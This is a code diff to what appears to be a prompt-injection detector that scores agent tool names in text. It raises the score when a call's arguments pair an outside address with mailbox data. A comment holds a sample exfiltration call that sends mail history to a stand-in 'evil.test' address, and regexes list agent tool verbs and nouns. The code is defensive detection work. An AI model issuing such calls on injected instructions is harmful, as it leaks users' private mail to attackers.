@@ -26,6 +26,10 @@ const IMPERATIVE_LEAD = new Set(['please', 'now', 'then', 'and', 'must', 'should
 const TOOL_VERBS = /^(send|forward|reply|delete|execute|exec|run|create|update|transfer|call|fetch|post|write|read|list|get|set|move|share|export|upload|download|invoke|mark|add|remove|make|http|browse|search|schedule|book|cancel|archive|apply|refund|approve|grant|sync|bulk|pay|open|close)_/;
 const TOOL_NOUNS = /(email|mail|message|inbox|contact|file|shell|command|payment|funds|label|filter|forward|http|url|web|browser|calendar|crm|lead|request|money|meeting|event|invite|deal|opportunit|refund|order|account|user|thread)/;
 
+const ARG_TOKENS = 20; // tokens after a tool name read as its arguments
+/** Argument names that are the message's own fields, not the mailbox's data ("to=", "subject="). */
+const SENDER_FIELDS = new Set(['email', 'mail', 'message', 'recipient', 'recipients', 'to', 'subject']);
+
 /** snake_case identifiers that read as agent tools: send_email, forward_message(…), transfer_funds. */
 function toolIdentifiers(ctx: RuleCtx): void {
   const toks = ctx.toks;
@@ -40,8 +44,14 @@ function toolIdentifiers(ctx: RuleCtx): void {
     const q = t.charCodeAt(tok.s - 1);
     if (agentTool && (q === 0x22 || q === 0x27)) w += 0.2; // a quoted tool name: JSON/XML tool-call payload
     if (called && agentTool) {
-      // arguments pointing outside: an address or URL within the call
-      for (let k = i + 1; k < toks.length && k < i + 20; k++) if (toks[k]!.kind === KIND_EMAIL || toks[k]!.kind === KIND_URL) { w = 0.65; break; }
+      // arguments pointing outside: an address or URL within the call; with the mailbox's own data as an argument
+      // too ("send_email(to=\"x@evil.test\", body=history)") the call carries it out, whatever the learned layer says
+      let out = false, data = false;
+      for (let k = i + 1; k < toks.length && k < i + ARG_TOKENS; k++) {
+        if (toks[k]!.kind === KIND_EMAIL || toks[k]!.kind === KIND_URL) out = true;
+        else if (toks[k]!.cls & (C.BULK | C.SENS) && !SENDER_FIELDS.has(toks[k]!.w)) data = true;
+      }
+      if (out) w = data ? 0.85 : 0.65;
     }
     // "use/call/invoke the send_email tool"
     const at = toks[i - 1]?.w === 'the' ? i - 2 : i - 1;
